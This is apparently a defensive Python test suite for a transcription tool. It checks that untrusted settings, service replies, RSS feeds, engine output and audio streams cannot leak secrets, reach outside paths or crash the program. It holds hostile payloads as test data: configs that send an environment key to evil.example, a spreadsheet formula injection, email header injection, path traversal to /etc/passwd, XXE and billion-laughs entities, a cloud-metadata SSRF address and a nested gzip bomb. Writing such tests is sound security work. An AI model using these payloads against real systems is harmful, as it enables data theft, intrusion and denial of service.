"""Attack what happens before and after a transcript: feeds, streams, services, destinations; with
all of attack.py.

    python tools/attack_flows.py [--only flow] [--one-of-each] [--jobs N]

The options are those of attack.py, whose attacks are made too.
"""

import csv
import gzip
import json
import subprocess
import sys
from pathlib import Path

import attack
from attack import GOOD, Hut, answered, each, must

FOREIGN = {
    "mail": 'mail = { server = "smtp://mail.evil.example", sender = "a@b.example", to = ["c@d.example"] }',  # noqa: E501
    "mail with a key": 'mail = { server = "smtp://127.0.0.1:9", user = "u", password = "env:MARSH_KEY", '  # noqa: E501
    'sender = "a@b.example", to = ["c@d.example"] }',
    "a call": 'webhook.to = "https://evil.example/take"',
    "a call that looks near": 'webhook.to = "http://127.0.0.1@evil.example/take"',
    "a program": 'command.run = ["touch", "was-here"]',
    "copies outside": 'copy.to = "../elsewhere"',
    "copies outside by a name": 'copy.to = "{text}/../../elsewhere"',
    "copies into a storage": 'copy.to = "s3://evil/x"',
    "rows outside": 'rows = { file = "../elsewhere/x.csv", columns = { a = "text" } }',
    "rows in a database": 'rows = { database = "postgresql://me@evil.example/x", columns = { a = "text" } }',  # noqa: E501
    "a service with a key": 'service = "thief"',
}
PLAIN = """
[engine.reed]
url = "{url}"
accepts.formats = ["flac"]
send.raw = "{{audio}}"
reply.text = "says"
"""
"""An engine that needs no trust by itself."""

THIEF = """
[service.thief]
url = "https://evil.example"
secrets.key = "env:MARSH_KEY"
every.bearer = "{key}"
send.json.a = "{text}"
reply.text = "a"
"""


def foreign(hut: Hut, after: object) -> None:
    """A folder from elsewhere sends nothing away and starts nothing before it is trusted."""
    elsewhere = hut.folder.parent / "elsewhere"
    elsewhere.mkdir(exist_ok=True)
    with hut.serving(lambda head, sound: answered(GOOD)) as url:
        settings = f"{PLAIN.format(url=url)}{THIEF}\n[follow_up.x]\n{after}\n"
        (hut.folder / "mantisreed.toml").write_text(settings)
        for command in ("run a.wav", "watch . --until-idle 1s", "submit a.wav", "collect", "retry"):
            ended = hut.run(*command.split(), trust=False)
            must(
                ended.returncode in (0, 2),
                f"{command}: exit code {ended.returncode}: {ended.stderr[-300:]}",
            )
    must(not hut.heads, "a request went out")
    must(not (hut.folder / "was-here").exists(), "something was started")
    must(not list(elsewhere.iterdir()), "something was written outside")


each("flow settings", dict(FOREIGN), foreign)

SERVICE = """
[service.reeve]
url = "{url}"
send.json.lines = "{{passages}}"
reply.texts = "lines"
[follow_up.x]
service = "reeve"
target = "de"
to = ["srt", "txt"]
max_attempts = 1
"""
BODIES: dict[str, object] = {
    "a list a hundred thousand deep": b'{"lines":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "twenty megabytes of text": b'{"lines":["' + b"a " * 10_000_000 + b'"]}',
    "another number of texts": b'{"lines":["a","b","c","d"]}',
    "tables where texts were expected": b'{"lines":[{"a":1}]}',
    "no JSON": b"\x00\xff" * 1000,
    "nothing": b"",
    "gzip of gzip of zeros": gzip.compress(gzip.compress(bytes(300_000_000))),
    "half a character": b'{"lines":["\\ud800 x"]}',
}


def spoiled(hut: Hut, body: object) -> None:
    """Whatever a text service answers: the transcript is there, and the end is clear."""

    def answer(head: str, sound: bytes) -> bytes:
        return answered(body if "application/json" in head else GOOD)

    with hut.serving(answer) as url:
        hut.card(url, head=SERVICE.format(url=url))
        for _ in range(2):
            ended = hut.run("run", "a.wav", "--json")
            (one,) = json.loads(ended.stdout)["recordings"]
            must(one["state"] == "done", one["state"])
            must(
                "Traceback" not in ended.stderr and "internal error" not in ended.stderr,
                ended.stderr[-300:],
            )
    must(
        sum("application/json" in head for head in hut.heads) <= 2,
        "it was paid for again and again",
    )


each("flow reply", BODIES, spoiled)

EVIL_TEXT = '=cmd|"/c calc"!A0\r\nBcc: everybody@evil.example\r\n\r\n../../../etc/passwd'
DESTINATIONS = """
[follow_up.rows]
rows = {{ file = "kept.csv", columns = {{ said = "text" }} }}
[follow_up.copies]
copy.to = "kept/{{text}}"
[follow_up.mail]
mail = {{ server = "{server}", sender = "a@marsh.example", to = ["b@marsh.example"], subject = "{{text}}" }}
"""  # noqa: E501


@attack.attack("flow text: headers, paths and formulas in what an engine says")
def said(hut: Hut) -> None:
    from mantisreed.standin.mailbox import mailbox

    words = {"says": EVIL_TEXT, "w": []}
    with (
        mailbox(hut.folder.parent / "box") as (server, box),
        hut.serving(lambda head, sound: answered(words)) as url,
    ):
        hut.card(url, reply='text = "says"', head=DESTINATIONS.format(server=server))
        hut.run("run", "a.wav", "--to", "txt")
        (mail,) = box.messages
    must(b"\nBcc:" not in mail.partition(b"\r\n\r\n")[0], "a header was put into a mail")
    with (hut.folder / "kept.csv").open() as table:
        (row,) = csv.DictReader(table)
    must(not row["said"].startswith("="), "a spreadsheet would run it")
    copied = list(hut.folder.parent.rglob("a.txt"))
    inside = (hut.folder / "kept", hut.folder / "transcripts")
    must(
        all(any(path.is_relative_to(one) for one in inside) for path in copied),
        f"copied to {copied}",
    )


ITEM = (
    '<item><title>{title}</title><guid>{n}</guid><enclosure url="{link}" type="audio/wav" '
    'length="1"/></item>'
)
HEAD = '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>'


def items(*links: str, title: str = "x") -> bytes:
    entries = "".join(
        ITEM.format(title=title, n=number, link=link) for number, link in enumerate(links)
    )
    return f"{HEAD}{entries}</channel></rss>".encode()


FEEDS: dict[str, object] = {
    "forty thousand entries": lambda port: items(
        *(f"http://127.0.0.9:{port}/{n}" for n in range(40_000))
    ),
    "enclosures near this machine": lambda port: items(
        f"http://127.0.0.9:{port}/a.wav", "http://169.254.169.254/x"
    ),
    "enclosures that are files": lambda port: items(
        "file:///etc/passwd", "/etc/passwd", "../../etc/passwd"
    ),
    "entities of entities": lambda port: (
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">'.encode() for n in range(12)
        )
        + b"]><rss version='2.0'><channel><title>&a11;</title></channel></rss>"
    ),
    "an entity that is a file": lambda port: (
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        b"<rss version='2.0'><channel><item><title>&a;</title><enclosure url='x' "
        b"type='audio/x'/></item></channel>"
        b"</rss>"
    ),
    "depth": lambda port: HEAD.encode() + b"<item>" * 100_000,
    "a page": lambda port: b"<!doctype html><title>x",
}


def fed(hut: Hut, make: object) -> None:
    """A feed leads to nothing near this machine, and ends in a line."""
    inner = Hut(hut.folder)
    with inner.serving(lambda head, body: answered(b"the hut's secret"), "0.0.0.0") as here:
        port = here.rpartition(":")[2]
        feed = make(port)  # type: ignore[operator]
        with hut.serving(
            lambda head, body: answered(feed if " /feed" in head else b"", status="200 OK")
        ) as url:
            hut.card("http://127.0.0.1:9")
            ended = hut.run("inspect", f"{url}/feed.xml", "--newest", "3")
    must(ended.returncode in (1, 2), f"exit code {ended.returncode}")
    must(
        "Traceback" not in ended.stderr and "root:" not in ended.stdout + ended.stderr,
        ended.stderr[-300:],
    )
    must(not inner.heads, "somebody near was reached")


each("flow feed", FEEDS, fed)

STREAMS: dict[str, bytes] = {
    "nothing": b"",
    "one byte": b"\x00",
    "noise": bytes(range(256)) * 4000,
    "a head that promises four gigabytes": b"RIFF\xff\xff\xff\xffWAVEjunk\xff\xff\xff\xff"
    + bytes(1000),
    "no channels": b"RIFF\0\0\0\0WAVEfmt \x10\0\0\0" + bytes(16) + b"data\0\0\0\0" + bytes(100_000),
    "another container": b"OggS" + bytes(100_000),
}


def streamed(hut: Hut, content: object) -> None:
    with hut.serving(lambda head, sound: answered(GOOD)) as url:
        hut.card(url)
        program = str(Path(sys.executable).with_name("mantisreed"))
        command = [program, "run", "-", "--live", "--trust"]
        assert isinstance(content, bytes)
        environment = {"MARSH_KEY": attack.KEY, "PATH": "/usr/bin:/bin"}
        ended = subprocess.run(
            command, cwd=hut.folder, input=content, capture_output=True, timeout=60, env=environment
        )
    must(ended.returncode in (0, 1, 2), f"exit code {ended.returncode}")
    must(
        b"Traceback" not in ended.stderr and b"internal error" not in ended.stderr,
        ended.stderr[-300:].decode(),
    )


each("flow stream", dict(STREAMS), streamed)


if __name__ == "__main__":
    sys.exit(attack.main())
